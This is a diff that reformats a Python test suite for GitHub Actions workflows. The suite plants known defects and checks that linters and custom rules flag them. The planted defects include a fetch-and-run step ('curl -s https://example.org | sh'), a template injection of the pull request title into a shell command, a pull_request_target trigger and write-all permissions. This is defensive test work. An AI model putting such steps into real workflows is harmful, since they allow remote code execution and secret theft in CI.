@@ -63,7 +63,9 @@ def project_rules(folder):
             if hosted:
                 continue
             if "environment" not in job:
-                breaches.append(f"{path.name}: job {name} is on a runner of ours without an environment that asks a reviewer")
+                breaches.append(
+                    f"{path.name}: job {name} is on a runner of ours without an environment that asks a reviewer"
+                )
             if "pull_request" in events and "head.repo.full_name == github.repository" not in job.get("if", ""):
                 breaches.append(f"{path.name}: job {name} is on a runner of ours and takes pull requests of forks")
             if any(value == "write" for value in job.get("permissions", {}).values()):
@@ -95,8 +97,10 @@ def linters(folder):
     """What the linters say of a folder, '' where all are content."""
     said = ""
     files = [str(path) for path in sorted(folder.glob("*.yml"))]
-    for command in ([tool("zizmor"), "--offline", "--no-progress", *files],
-                    [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files]):
+    for command in (
+        [tool("zizmor"), "--offline", "--no-progress", *files],
+        [tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files],
+    ):
         r = run(*command)
         if r.returncode:
             said += r.stdout + r.stderr
@@ -106,14 +110,29 @@ def linters(folder):
 # A defect in each: file, text, its replacement, and what must be said.
 PLANTED = [
     ("gate.yml", "  pull_request:\n", "  pull_request_target:\n", "dangerous-triggers"),
-    ("ci.yml", "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "actions/checkout@v4", "unpinned-uses"),
-    ("ci.yml", '- run: ci/test\n', '- run: ci/test -- -R "${{ github.event.pull_request.title }}"\n', "template-injection"),
+    (
+        "ci.yml",
+        "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
+        "actions/checkout@v4",
+        "unpinned-uses",
+    ),
+    (
+        "ci.yml",
+        "- run: ci/test\n",
+        '- run: ci/test -- -R "${{ github.event.pull_request.title }}"\n',
+        "template-injection",
+    ),
     ("ci.yml", "permissions: {}\n", "permissions: write-all\n", "not empty by default"),
     ("ci.yml", "          persist-credentials: false\n", "", "artipacked"),
     ("nightly.yml", "runs-on: ubuntu-24.04\n", "run-on: ubuntu-24.04\n", "runs-on"),
     ("nightly.yml", '--shards "$SHARDS"', "--shards $SHARDS", "SC2086"),
     ("gate.yml", "    environment: gpu\n", "", "without an environment"),
-    ("gate.yml", " || github.event.pull_request.head.repo.full_name == github.repository", "", "takes pull requests of forks"),
+    (
+        "gate.yml",
+        " || github.event.pull_request.head.repo.full_name == github.repository",
+        "",
+        "takes pull requests of forks",
+    ),
     ("gate.yml", "    timeout-minutes: 60\n", "", "no time limit"),
     ("ci.yml", "- run: ci/test\n", "- run: curl -s https://example.org | sh\n", "no command of ci/"),
 ]
@@ -133,8 +152,9 @@ class Workflows(unittest.TestCase):
                 try:
                     said = linters(pathlib.Path(folder))
                 except KeyError as key:  # the rules read a key that is gone
-                    said = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows",
-                               f"{folder}/{name}").stdout
+                    said = run(
+                        tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", f"{folder}/{name}"
+                    ).stdout
                     self.assertIn(str(key).strip("'"), said)
                 self.assertIn(expected, said)
 
